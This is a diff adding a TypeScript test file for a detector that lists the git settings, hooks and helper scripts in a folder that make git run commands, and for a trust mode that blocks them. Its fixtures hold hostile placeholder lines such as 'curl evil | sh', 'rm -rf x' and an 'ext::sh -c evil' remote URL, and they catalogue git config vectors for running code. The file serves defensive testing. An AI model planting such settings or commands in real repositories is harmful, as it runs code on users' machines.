@@ -1,0 +1,147 @@
+// What git runs by what a folder brings with it. What a clone has asks nothing.
+import { execFileSync } from 'node:child_process';
+import { chmodSync, existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
+import { dirname } from 'node:path';
+import { expect, test } from 'vitest';
+import { tempFolder, type TempFolder } from '../../../../../../tests/support/tempFolder.ts';
+import { gitConfigItems } from './gitConfig.ts';
+import { quietGit } from './quietGit.ts';
+import { whatRuns } from './whatRuns.ts';
+
+const named = (config: string) => gitConfigItems(config).map(({ name, text }) => `${name}: ${text}`);
+
+function write(folder: TempFolder, path: string, content: string, mode = 0o644): void {
+  mkdirSync(dirname(folder.at(path)), { recursive: true });
+  writeFileSync(folder.at(path), content);
+  chmodSync(folder.at(path), mode);
+}
+
+async function found(folder: TempFolder, cwd: string) {
+  const { items } = await whatRuns({ HOME: folder.at('home') }, folder.at(cwd));
+  return items.map(({ what, name, text, file }) => `${what} ${name} ${file}: ${text.split('\n').at(-1)}`);
+}
+
+test.each([
+  ['[core]\n\tfsmonitor = ./evil.sh\n', ['git core.fsmonitor: ./evil.sh']],
+  ['[core] fsmonitor=evil', ['git core.fsmonitor: evil']],
+  ['[CORE]\nFSMonitor = evil', ['git core.fsmonitor: evil']],
+  ['[core]\nsshCommand = \\\nevil', ['git core.sshcommand: evil']],
+  ['[core]\nhooksPath = .hooks\npager = evil', ['git core.hookspath: .hooks', 'git core.pager: evil']],
+  ['[diff]\nexternal = evil', ['git diff.external: evil']],
+  ['[diff "x"]\ntextconv = evil', ['git diff.x.textconv: evil']],
+  ['[filter "x"]\nclean = evil', ['git filter.x.clean: evil']],
+  ['[filter.x]\nclean = evil', ['git filter.x.clean: evil']],
+  ['[filter "lfs"]\nclean = evil %f', ['git filter.lfs.clean: evil %f']],
+  ['[merge "x"]\ndriver = evil', ['git merge.x.driver: evil']],
+  ['[alias]\nst = !evil', ['git alias.st: !evil']],
+  ['[credential]\nhelper = !evil', ['git credential.helper: !evil']],
+  ['[include]\npath = ../evil', ['git include.path: ../evil']],
+  ['[remote "o"]\nurl = ext::sh -c evil', ['git remote.o.url: ext::sh -c evil']],
+  ['[remote "o"]\nuploadpack = evil', ['git remote.o.uploadpack: evil']],
+  ['[submodule "s"]\nupdate = !evil', ['git submodule.s.update: !evil']],
+  ['[gpg]\nprogram = evil', ['git gpg.program: evil']],
+  ['[gc]\nrecentObjectsHook = evil', ['git gc.recentobjectshook: evil']],
+  ['[lfs "customtransfer.x"]\npath = evil', ['git lfs.customtransfer.x.path: evil']],
+  ['[core\nfsmonitor = evil', ['git : [core', 'git fsmonitor: evil']],
+])('[L12] runs something: %j', (config, expected) => {
+  expect(named(config).map((line) => line.replace(/ {2,}/g, ' '))).toEqual(expected);
+});
+
+test('[L12] what a clone, its branches, submodules and git-lfs write is harmless', () => {
+  const config = `[core]
+	repositoryformatversion = 0
+	filemode = true
+	bare = false
+	logallrefupdates = true
+	fsmonitor = true
+; a comment
+[remote "origin"]
+	url = git@github.com:someone/some.git
+	fetch = +refs/heads/*:refs/remotes/origin/*
+[branch "main"]
+	remote = origin
+	merge = refs/heads/main
+	vscode-merge-base = origin/main
+[submodule "docs"]
+	active = true
+	url = https://example.com/docs.git
+[user]
+	email = ana@example.com
+[pull]
+	rebase = true
+[diff]
+	algorithm = histogram
+[filter "lfs"]
+	clean = git-lfs clean -- %f
+	smudge = git-lfs smudge -- %f
+	required = true
+[lfs "https://example.com/info/lfs"]
+	access = basic
+`;
+  expect(named(config)).toEqual([]);
+});
+
+test('[L12] a repository that was just made or cloned has nothing to ask', async () => {
+  using folder = tempFolder();
+  execFileSync('git', ['init', '--quiet', folder.at('one')]);
+  execFileSync('git', ['clone', '--quiet', folder.at('one'), folder.at('two')], { stdio: 'ignore' });
+  write(folder, 'two/.git/hooks/post-merge', '#!/bin/sh\ngit lfs post-merge "$@"\n', 0o755);
+  write(folder, 'two/.git/hooks/commit-msg', 'never run', 0o644);
+  expect(await found(folder, 'two')).toEqual([]);
+});
+
+test('[L12] an archive with a repository in it brings what git runs, with the scripts that this names', async () => {
+  using folder = tempFolder();
+  execFileSync('git', ['init', '--quiet', folder.at('repo')]);
+  write(folder, 'repo/.git/config', '[core]\nfsmonitor = ./tools/watch.sh\n');
+  write(folder, 'repo/tools/watch.sh', 'curl evil | sh');
+  write(folder, 'repo/.git/hooks/pre-commit', '#!/bin/sh\nsh tools/check.sh', 0o755);
+  write(folder, 'repo/tools/check.sh', 'rm -rf x');
+  write(folder, 'repo/.git/config.worktree', '[core]\nhooksPath = ".husky"\n');
+  write(folder, 'repo/.husky/pre-push', 'curl evil', 0o755);
+  for (const name of ['HEAD', 'objects/x', 'refs/x']) write(folder, `repo/.git/modules/libs/one/${name}`, '');
+  write(folder, 'repo/.git/modules/libs/one/config', '[core]\nfsmonitor = evil\n');
+  write(folder, 'repo/sub/a.txt', '');
+  const inFolder = await found(folder, 'repo');
+  expect(inFolder).toEqual([
+    'helper git core.fsmonitor .git/config: ./tools/watch.sh',
+    'helper git core.hookspath .git/config.worktree: ".husky"',
+    'hook git pre-commit .git/hooks/pre-commit: sh tools/check.sh',
+    'hook git pre-push .husky/pre-push: curl evil',
+    'helper git core.fsmonitor .git/modules/libs/one/config: evil',
+    'script named by git core.fsmonitor tools/watch.sh: curl evil | sh',
+    'script named by git pre-commit tools/check.sh: rm -rf x',
+  ]);
+  expect(await found(folder, 'repo/sub')).toHaveLength(inFolder.length);
+});
+
+test('[L12] a folder that only looks like a repository is one to git, and a worktree has its repository’s', async () => {
+  using folder = tempFolder();
+  for (const name of ['HEAD', 'objects/x', 'refs/x', 'src/a.txt']) write(folder, `bare/${name}`, '');
+  write(folder, 'bare/config', '[core]\nbare = false\nfsmonitor = evil\n');
+  expect(await found(folder, 'bare/src')).toHaveLength(1);
+  write(folder, 'main/.git/worktrees/tree/commondir', '../..\n');
+  write(folder, 'main/.git/config', '[core]\nfsmonitor = evil\n');
+  write(folder, 'tree/.git', `gitdir: ${folder.at('main')}/.git/worktrees/tree\n`);
+  expect(await found(folder, 'tree')).toHaveLength(1);
+});
+
+test('[L12] without the settings of a folder, git runs nothing of them', async () => {
+  using folder = tempFolder();
+  execFileSync('git', ['init', '--quiet', folder.at('repo')]);
+  const mark = folder.at('mark');
+  write(folder, 'repo/.git/config', `[core]\nfsmonitor = touch ${mark} ||\n[filter "x"]\nclean = touch ${mark}; cat\n`);
+  write(folder, 'repo/.gitattributes', '* filter=x\n');
+  write(folder, 'repo/.git/hooks/pre-commit', `#!/bin/sh\ntouch ${mark}\n`, 0o755);
+  const own = { PATH: process.env['PATH'] ?? '', HOME: folder.at('home') };
+  const who = ['-c', 'user.name=a', '-c', 'user.email=b'];
+  const commit = (env: Record<string, string>) => {
+    rmSync(mark, { force: true });
+    execFileSync('git', ['add', '.'], { cwd: folder.at('repo'), env, stdio: 'ignore' });
+    execFileSync('git', [...who, 'commit', '--quiet', '--allow-empty', '-m', 'x'], { cwd: folder.at('repo'), env });
+    return existsSync(mark);
+  };
+  const spec = { cwd: folder.at('repo') };
+  expect(commit(await quietGit(own, { ...spec, folderTrust: 'without_settings' }))).toBe(false);
+  expect(commit(await quietGit(own, { ...spec, folderTrust: 'trusted' }))).toBe(true);
+});
